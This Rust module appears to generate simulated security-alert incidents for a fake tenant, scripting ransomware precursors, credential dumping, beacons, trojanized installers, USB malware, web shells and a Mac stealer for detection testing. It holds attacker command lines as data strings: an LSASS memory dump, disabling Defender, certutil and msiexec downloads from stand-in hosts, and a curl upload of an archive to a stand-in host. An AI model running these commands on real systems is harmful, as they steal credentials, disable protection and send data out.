//! Attacks on machines: ransomware's forerunners, credential dumping, beacons, installers, USB sticks, web shells, Macs.

use super::scene::Scene;
use super::source::{AIR, AV, CUSTOM, CUSTOM_TI, EXPERTS, MDE, MDI, XDR};
use super::{Machine, Severity::*, Template, Truth, Who, spec, template};
use serde_json::json;

const IDLE: &str = "Write-Output 'simulated tenant: nothing runs here'";

fn encoded() -> String {
    format!(
        "powershell.exe -nop -w hidden -ep bypass -enc {}",
        Scene::encoded(IDLE)
    )
}

fn vpn_logon(s: &mut Scene<'_>) {
    let from = s.attacker(0);
    s.suspicious()
        .logon(&from.ip.to_string(), "RemoteInteractive", true)
        .ip(&from, &["attacker", "source"]);
}

fn hands_on(s: &mut Scene<'_>) {
    let shell = s.shell();
    let ps = s.malicious().run(&shell, "powershell.exe", &encoded());
    for command in [
        r#"net group "Domain Admins" /domain"#,
        "nltest /dclist:corp.contoso.com",
        "quser",
        "whoami /all",
    ] {
        let image = format!("{}.exe", command.split(' ').next().unwrap_or("net"));
        s.suspicious().run(&ps, &image, command);
    }
    s.user();
}

fn tamper(s: &mut Scene<'_>) {
    let shell = s.service("powershell.exe", &encoded());
    s.malicious().run(
        &shell,
        "powershell.exe",
        "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true # simulated",
    );
    s.registry(
        Some(&shell),
        "HKEY_LOCAL_MACHINE",
        r"SOFTWARE\Policies\Microsoft\Windows Defender",
        "DisableAntiSpyware",
        "1",
    );
}

fn lateral(s: &mut Scene<'_>) {
    let from = s.host_ip();
    s.on(1).malicious().logon(&from, "Network", true);
    let services = s.service("services.exe", r"C:\Windows\system32\services.exe");
    let svc = s.run(
        &services,
        r"C:\Windows\rsvchelper.exe",
        r"C:\Windows\rsvchelper.exe -k netsvc",
    );
    s.run(
        &svc,
        "cmd.exe",
        r"cmd.exe /c echo simulated > \\127.0.0.1\admin$\out.txt",
    );
}

fn shadow_copies(s: &mut Scene<'_>) {
    s.on(1);
    let cmd = s.service("cmd.exe", "cmd.exe /q /c run.bat");
    s.malicious()
        .run(&cmd, "vssadmin.exe", "vssadmin.exe list shadows /simulated");
    s.run(&cmd, "bcdedit.exe", "bcdedit.exe /enum /simulated");
    s.run(&cmd, "wevtutil.exe", "wevtutil.exe gl Security /simulated");
}

fn stage_files(s: &mut Scene<'_>) {
    s.on(2);
    let cmd = s.service("cmd.exe", r"cmd.exe /c copy_all.bat");
    s.malicious()
        .file(Some(&cmd), r"\\SRV-FILE-01\public$\update\lockr.exe");
    s.file(Some(&cmd), r"C:\Users\Public\README_RESTORE.txt");
    s.device();
}

fn ransom_blocked(s: &mut Scene<'_>) {
    s.on(2);
    let parent = s.service("cmd.exe", r"cmd.exe /c copy_all.bat");
    s.malicious();
    let locker = s.run(
        &parent,
        r"C:\Users\Public\lockr.exe",
        r"lockr.exe --path \\SRV-FILE-01\finance --simulated",
    );
    s.file(
        Some(&locker),
        r"\\SRV-FILE-01\finance\Payments 2026.xlsx.lockr",
    );
}

fn disruption(s: &mut Scene<'_>) {
    s.malicious().device().user();
    s.on(2).device();
}

fn lsass(s: &mut Scene<'_>) {
    let shell = s.shell();
    let cmd = s.suspicious().run(
        &shell,
        "cmd.exe",
        r"cmd.exe /c C:\Users\Public\p64.exe -accepteula -ma lsass.exe l.dmp",
    );
    let dump = s.malicious().run(
        &cmd,
        r"C:\Users\Public\p64.exe",
        r"C:\Users\Public\p64.exe -accepteula -ma lsass.exe l.dmp",
    );
    s.file(Some(&dump), r"C:\Users\Public\l.dmp");
    s.user();
}

fn mimikatz(s: &mut Scene<'_>) {
    let cmd = s.service(
        "cmd.exe",
        r"cmd.exe /c C:\Users\Public\p64.exe -accepteula -ma lsass.exe l.dmp",
    );
    let file = s
        .malicious()
        .file(Some(&cmd), r"C:\Users\Public\m\mk64.exe");
    let device = s.machine();
    s.extra("malware", &[], |world, mark| {
        let id = device.map(|d| world.machine_id(d));
        super::super::evidence_cloud::malware(
            mark,
            "HackTool:Win64/Mikatz!dha",
            "HackTool",
            &file,
            id,
        )
    });
    s.device();
}

fn pass_the_hash(s: &mut Scene<'_>) {
    let from = s.host_ip();
    s.on(1).malicious().logon(&from, "Network", true);
    s.by(1).user();
}

fn beacon(s: &mut Scene<'_>) {
    let services = s.service("svchost.exe", "svchost.exe -k netsvcs -p");
    let run = s.malicious().run(
        &services,
        "rundll32.exe",
        r"rundll32.exe C:\Windows\Temp\wct8F1.tmp,StartW",
    );
    let to = s.attacker(0);
    let url = format!("https://{}/jquery-3.3.1.min.js", s.domain(0));
    s.connect(&run, &to, 443, Some(&url));
    let domain = s.domain(0);
    s.flow(&to, 443, "tcp")
        .flow(&to, 53, "udp")
        .dns(domain, &to);
}

fn pipe(s: &mut Scene<'_>) {
    let run = s.service(
        "rundll32.exe",
        r"rundll32.exe C:\Windows\Temp\wct8F1.tmp,StartW",
    );
    s.suspicious().run(
        &run,
        "cmd.exe",
        r"cmd.exe /c echo simulated > \\.\pipe\msagent_f1",
    );
    s.run(&run, "rundll32.exe", "rundll32.exe");
    s.user();
}

fn indicator(s: &mut Scene<'_>) {
    let run = s.service(
        "rundll32.exe",
        r"rundll32.exe C:\Windows\Temp\wct8F1.tmp,StartW",
    );
    let to = s.attacker(0);
    s.suspicious().device();
    s.connect(&run, &to, 8443, None);
}

fn expert_note(s: &mut Scene<'_>) {
    s.malicious().device().user();
}

fn installer(s: &mut Scene<'_>) {
    let shell = s.shell();
    let account = s.account();
    let msi = format!(r"C:\Users\{account}\Downloads\MeetingNotes-Setup-4.2.1.msi");
    s.suspicious().file(Some(&shell), &msi);
    let install = s.run(
        &shell,
        "msiexec.exe",
        &format!(r#""msiexec.exe" /i "{msi}""#),
    );
    let node = s.malicious().run(
        &install,
        r"C:\Program Files\MeetingNotes\MeetingNotes.exe",
        r"MeetingNotes.exe --post-install",
    );
    s.file(Some(&node), r"C:\Program Files\MeetingNotes\ffmpeg.dll");
    let to = s.attacker(0);
    let url = format!("https://{}/release/stable/sync", s.domain(0));
    s.connect(&node, &to, 443, Some(&url));
    s.user();
}

fn package(s: &mut Scene<'_>) {
    s.on(1);
    let shell = s.shell();
    let npm = s.suspicious().run(
        &shell,
        "/usr/bin/node",
        "node /usr/lib/node_modules/npm/bin/npm-cli.js ci",
    );
    let sh = s.malicious().run(
        &npm,
        "sh",
        "sh -c node ./scripts/postinstall.js # simulated",
    );
    let to = s.attacker(1);
    s.connect(
        &sh,
        &to,
        443,
        Some("https://registry-mirror.example/left-padder/-/left-padder-1.4.2.tgz"),
    );
    s.extra("repo", &[], |_, mark| mark.evidence("gitHubRepoEvidence", json!({
        "baseUrl": "https://github.example/contoso/order-portal", "login": "order-portal", "owner": "contoso",
        "ownerType": "Organization", "repoId": "R_kgDOLx7Q2w",
    })));
    s.extra("org", &[], |_, mark| mark.evidence("gitHubOrganizationEvidence", json!({
        "company": "Contoso Ltd", "displayName": "Contoso", "email": "platform@contoso.com", "login": "contoso",
        "orgId": "O_kgDOBq3c1A", "webUrl": "https://github.example/contoso",
    })));
    s.extra("github user", &["edited"], |_, mark| mark.evidence("gitHubUserEvidence", json!({
        "email": "left-padder@example.org", "login": "left-padder-bot", "name": "left padder", "userId": "U_kgDOCkf5Zg",
        "webUrl": "https://github.example/left-padder-bot",
    })));
}

fn usb(s: &mut Scene<'_>) {
    let shell = s.shell();
    let lnk = s
        .malicious()
        .run(&shell, "cmd.exe", r#"cmd.exe /q /c "E:\ \autorun.bat""#);
    s.file(Some(&lnk), r"E:\Removable Disk.lnk");
    s.run(
        &lnk,
        "msiexec.exe",
        "msiexec.exe /q /i http://cdn-update.example:8080/u/simulated",
    );
    s.url("http://cdn-update.example:8080/u/simulated").user();
}

fn usb_copy(s: &mut Scene<'_>) {
    let cmd = s.service("cmd.exe", r#"cmd.exe /q /c "E:\ \autorun.bat""#);
    s.suspicious()
        .file(Some(&cmd), r"C:\Users\Public\Libraries\drvupd.exe");
    s.device();
}

fn web_shell(s: &mut Scene<'_>) {
    let pool = s.service("w3wp.exe", r#"w3wp.exe -ap "DefaultAppPool""#);
    s.malicious().file(
        Some(&pool),
        r"C:\inetpub\wwwroot\aspnet_client\system_web\error.aspx",
    );
    let cmd = s.run(
        &pool,
        "cmd.exe",
        r#"cmd.exe /c cd /d C:\inetpub\wwwroot & whoami"#,
    );
    s.run(&cmd, "whoami.exe", "whoami");
    let from = s.attacker(0);
    s.ip(&from, &["attacker"])
        .url("https://portal.contoso.com/aspnet_client/system_web/error.aspx");
    s.extra("iis account", &[], |_, mark| {
        mark.evidence("userEvidence", json!({"stream": null, "userAccount": {
            "accountName": "DefaultAppPool", "domainName": "IIS APPPOOL", "userSid": "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415",
            "azureAdUserId": null, "userPrincipalName": null, "displayName": null, "resourceAccessEvents": [],
        }}))
    });
}

fn web_shell_tool(s: &mut Scene<'_>) {
    let pool = s.service("w3wp.exe", r#"w3wp.exe -ap "DefaultAppPool""#);
    let run = s.malicious().run(
        &pool,
        "certutil.exe",
        "certutil.exe -urlcache -f http://filedrop.example.org/t.txt t.txt",
    );
    let to = s.attacker(1);
    s.connect(&run, &to, 80, Some("http://filedrop.example.org/t.txt"));
    s.device();
}

fn investigated(s: &mut Scene<'_>) {
    s.malicious().device();
    let parent = s.shell();
    s.file(
        Some(&parent),
        r"C:\inetpub\wwwroot\aspnet_client\system_web\error.aspx",
    );
}

fn mac_stealer(s: &mut Scene<'_>) {
    let shell = s.shell();
    let account = s.account();
    let dmg = format!("/Users/{account}/Downloads/Slides Pro.dmg");
    s.malicious().file(Some(&shell), &dmg);
    let zsh = s.run(
        &shell,
        "zsh",
        "/bin/zsh -c '/Volumes/Slides Pro/.install.sh'",
    );
    s.run(
        &zsh,
        "osascript",
        "osascript -e 'display dialog \"simulated\"'",
    );
    let curl = s.run(
        &zsh,
        "curl",
        "curl -s -X POST -F file=@/tmp/out.zip http://telemetry-sync.example/p",
    );
    let to = s.attacker(0);
    s.connect(&curl, &to, 80, Some("http://telemetry-sync.example/p"))
        .user();
}

fn mac_persist(s: &mut Scene<'_>) {
    let zsh = s.service("zsh", "/bin/zsh -c '/Volumes/Slides Pro/.install.sh'");
    s.suspicious()
        .file(Some(&zsh), "/Library/LaunchAgents/com.slides.helper.plist");
    s.device();
}

fn custom_rule(s: &mut Scene<'_>) {
    s.suspicious().device().user();
    let shell = s.shell();
    s.run(&shell, "powershell.exe", &encoded());
}

/// See the module header.
pub static ALL: [Template; 7] = [
    template(
        "ransomware-precursor", "Ransomware activity and lateral movement on multiple endpoints",
        Truth::Attack, 7, &[Who::Owner(0), Who::Operator], &[Machine::Workstation, Machine::Server, Machine::Named(8)],
        &[
            spec("Suspicious remote logon from a rare address", Medium, &MDE, "InitialAccess", &["T1133", "T1078"], vpn_logon)
                .about("An account logged on from an address that no other account of the organisation used in 30 days."),
            spec("Hands-on-keyboard activity", High, &MDE, "Execution", &["T1059.001", "T1087.002", "T1018"], hands_on).at(13)
                .about("Commands typed by a person were seen under an encoded PowerShell session.").actor("Storm-0000"),
            spec("Attempt to turn off Microsoft Defender Antivirus protection", High, &MDE, "DefenseEvasion", &["T1562.001"], tamper).at(21),
            spec("Suspicious service creation over SMB", High, &MDE, "LateralMovement", &["T1021.002", "T1569.002"], lateral).at(43)
                .about("A service was created remotely and ran a program from the Windows folder."),
            spec("Suspected identity theft (pass-the-hash)", High, &MDI, "LateralMovement", &["T1550.002"], pass_the_hash).at(46).odds(700),
            spec("File backups were tampered with", High, &MDE, "Impact", &["T1490"], shadow_copies).at(71)
                .about("Shadow copies, boot recovery and event logs were enumerated as before an encryption."),
            spec("Possible ransomware staging on a file server", High, &CUSTOM, "LateralMovement", &["T1570"], stage_files).at(78).odds(750),
            spec("Ransomware behavior was blocked", High, &AV, "Ransomware", &["T1486"], ransom_blocked).at(83)
                .threat("Ransom:Win64/Lockr.SA", "Lockr"),
            spec("Potential human-operated malicious activity", High, &XDR, "SuspiciousActivity", &["T1486", "T1021"], disruption).at(85).odds(800),
        ],
    ).tagged(&["ransomware", "P1"]).system(&["Ransomware", "Automatic attack disruption"]),
    template(
        "credential-dump", "Credential dumping on {d}",
        Truth::Attack, 10, &[Who::Owner(0), Who::Operator], &[Machine::Workstation, Machine::Server],
        &[
            spec("Suspicious access to LSASS service", High, &MDE, "CredentialAccess", &["T1003.001"], lsass)
                .about("A process dump tool read the memory of the local security authority."),
            spec("'Mikatz' hacktool was prevented", Medium, &AV, "CredentialAccess", &["T1003.001"], mimikatz).at(6)
                .threat("HackTool:Win64/Mikatz!dha", "Mikatz"),
            spec("Pass-the-ticket attack", High, &MDI, "LateralMovement", &["T1550.003"], pass_the_hash).at(34).odds(550),
        ],
    ).tagged(&["tier0"]),
    template(
        "beacon", "Command and control beacon on {d}",
        Truth::Attack, 10, &[Who::Owner(0)], &[Machine::Workstation],
        &[
            spec("Suspicious connection that follows a beacon pattern", High, &MDE, "CommandAndControl", &["T1071.001", "T1573"], beacon)
                .about("A system program connects to a rare host every 58 to 62 seconds."),
            spec("Suspicious named pipe", Medium, &MDE, "Execution", &["T1559", "T1055"], pipe).at(7),
            spec("Connection to a custom network indicator", High, &CUSTOM_TI, "CommandAndControl", &["T1071"], indicator).at(11).odds(800),
            spec("Attack notification: beacon with operator activity", High, &EXPERTS, "SuspiciousActivity", &["T1219"], expert_note).at(95).odds(500)
                .about("Our experts believe that an operator is active on this device. Isolate it first.").actor("Storm-0000"),
        ],
    ).system(&["Defender Experts"]),
    template(
        "supply-chain", "Trojanized installer on {d}",
        Truth::Attack, 8, &[Who::Owner(0)], &[Machine::Workstation, Machine::Named(18)],
        &[
            spec("Installer with a tampered library", High, &MDE, "InitialAccess", &["T1195.002", "T1574.002"], installer)
                .about("A signed installer loaded a library that does not belong to the release."),
            spec("Malicious package in a build pipeline", Medium, &CUSTOM, "InitialAccess", &["T1195.001"], package).at(66),
        ],
    ).tagged(&["supply-chain"]),
    template(
        "usb-worm", "USB malware spread to {d}",
        Truth::Attack, 8, &[Who::Owner(0)], &[Machine::Workstation],
        &[
            spec("Suspicious process launched from a USB drive", Medium, &MDE, "InitialAccess", &["T1091"], usb),
            spec("'Raspworm' malware was detected", Low, &AV, "Malware", &["T1204.002"], usb_copy).at(3).threat("Worm:Win32/Raspworm.A", "Raspworm"),
        ],
    ).repeating(),
    template(
        "web-shell", "Web shell on {d}",
        Truth::Attack, 7, &[Who::Operator], &[Machine::Named(10)],
        &[
            spec("Suspicious web script file created by the web server", High, &MDE, "Persistence", &["T1505.003", "T1190"], web_shell)
                .about("The worker process of the web server wrote a script into a public folder and then ran commands."),
            spec("Suspicious download by a web server process", Medium, &MDE, "CommandAndControl", &["T1105"], web_shell_tool).at(9),
            spec("Automated investigation found more files", Informational, &AIR, "Persistence", &["T1505.003"], investigated).at(40).odds(600),
        ],
    ).tagged(&["internet-facing"]),
    template(
        "mac-stealer", "Information stealer on {d}",
        Truth::Attack, 7, &[Who::Owner(0)], &[Machine::Mac],
        &[
            spec("Information stealing malware activity", High, &MDE, "CredentialAccess", &["T1555.001", "T1059.002"], mac_stealer)
                .about("A disk image asked for the password of the user and sent an archive to a rare host."),
            spec("Suspicious launch agent", Medium, &MDE, "Persistence", &["T1543.001"], mac_persist).at(4),
            spec("Custom detection: archive sent by curl", Medium, &CUSTOM, "Exfiltration", &["T1048"], custom_rule).at(21).odds(500),
        ],
    ),
];
